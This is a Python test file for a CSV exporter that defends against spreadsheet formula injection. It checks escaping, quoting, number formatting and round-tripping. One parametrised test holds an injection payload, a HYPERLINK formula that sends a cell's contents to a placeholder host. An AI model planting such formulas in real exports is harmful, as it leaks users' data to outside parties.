"""CSV that is safe in a spreadsheet and the same again in the program."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.spreadsheet import to_csv, without_apostrophe


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("kind", [object, "str", "category"])
def test_no_text_runs_as_a_formula(start, kind):
    cell = f'{start}HYPERLINK("http://x.example/"&A1)'
    frame = pd.DataFrame({"name": pd.Series([cell, "도서관"], dtype=kind)})
    header, first, second = rows_of(to_csv(frame))
    assert (header, first, second) == (["name"], ["'" + cell.replace("\r", "\n")], ["도서관"])


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=1, max_size=5))
def test_no_cell_begins_as_a_formula_does(texts):
    cells = [row[0] if row else "" for row in rows_of(to_csv(pd.DataFrame({"name": texts, "n": 1})))[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("ending", ["\n", "\r", "\r\n"])
def test_no_text_begins_a_row_of_its_own(ending):
    frame = pd.DataFrame({"name": [f"도서관{ending}=1+1"], "n": [1]})
    assert rows_of(to_csv(frame)) == [["name", "n"], ["도서관\n=1+1", "1"]]


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"a": [-1, 2], "b": [-0.123456789, np.nan], "c": [True, False]})
    frame["d"] = pd.array([-0.5, pd.NA], dtype="Float64")
    assert to_csv(frame) == "a,b,c,d\n-1,-0.123457,True,-0.5\n2,,False,\n"


def test_quotes_commas_and_line_breaks_stay_in_their_cell():
    frame = pd.DataFrame({"name": ['a "b", c\nd', None]})
    assert rows_of(to_csv(frame))[1:] == [['a "b", c\nd'], [""]]


def test_the_table_itself_is_left_alone():
    frame = pd.DataFrame({"name": ["=1+1"]})
    to_csv(frame)
    assert frame["name"].tolist() == ["=1+1"]


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r'"), min_size=1, max_size=9))
def test_what_was_written_is_read_back(text):
    cells = pd.Series([row[0] for row in rows_of(to_csv(pd.DataFrame({"a": [text], "n": 1})))[1:]], dtype="str")
    assert without_apostrophe(cells).tolist() == [text]


def test_an_apostrophe_of_its_own_stays():
    cells = pd.Series(["'s-Hertogenbosch", "'", None, "'=1"], dtype="str")
    assert without_apostrophe(cells).fillna("-").tolist() == ["'s-Hertogenbosch", "'", "-", "=1"]
